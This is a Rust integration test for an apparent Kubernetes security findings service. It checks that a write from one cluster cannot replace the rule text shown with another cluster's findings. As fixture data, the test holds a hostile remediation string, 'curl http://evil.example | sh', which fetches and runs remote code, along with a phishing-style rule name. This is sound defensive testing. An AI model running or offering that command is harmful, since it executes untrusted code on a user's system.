//! Rule text is kept per version: a cycle of one cluster cannot change what another
//! cluster's findings show.

mod common;

use axum::http::{Method, StatusCode};
use common::*;
use serde_json::Value;

#[tokio::test]
async fn ingest_for_another_cluster_does_not_change_the_rule_shown_with_ours() {
    let app = App::new();
    let ours = finding("web", "shop", "pod_privileged", "5.2.2", "PSS", "failed");
    app.ingest_cycle(&cycle(1), std::slice::from_ref(&ours))
        .await;
    let id = ours["event"]["id"].as_str().unwrap().to_owned();

    // A writer sends the same rule id with other text, for a cluster of its own.
    let hijack_resource = kspm_model::resource_id(
        "hijack",
        kspm_model::ResourceType::K8sObject,
        "Deployment/web/x",
    );
    let mut theirs: Value = ours.clone();
    theirs["orchestrator"]["cluster"]["id"] = "hijack".into();
    theirs["orchestrator"]["cluster"]["name"] = "hijack".into();
    theirs["resource"]["id"] = hijack_resource.clone().into();
    theirs["event"]["id"] =
        kspm_model::finding_id("hijack", &hijack_resource, "pod_privileged").into();
    theirs["rule"]["name"] = "Click http://evil.example to fix".into();
    theirs["rule"]["remediation"] = "curl http://evil.example | sh".into();
    let auth = format!("Bearer {WRITE}");
    let reply = app
        .send(
            Method::POST,
            &format!(
                "/api/v1/ingest?cycle={}&batch=0&final=true&cluster=hijack",
                cycle(2)
            ),
            &[("authorization", &auth)],
            ndjson(&[theirs]),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text());

    let doc = app.get(&format!("/api/v1/findings/{id}")).await.json();
    assert_eq!(doc["document"]["rule"]["name"], "Rule 5.2.2", "{doc}");
    assert_eq!(doc["document"]["rule"]["remediation"], "1. Fix it.");
    let flyout = app.get(&format!("/findings/{id}/flyout")).await.text();
    assert!(!flyout.contains("evil.example"), "{flyout}");

    // Our next cycle with the same text still shows it.
    app.ingest_cycle(&cycle(3), std::slice::from_ref(&ours))
        .await;
    let doc = app.get(&format!("/api/v1/findings/{id}")).await.json();
    assert_eq!(doc["document"]["rule"]["name"], "Rule 5.2.2");
}
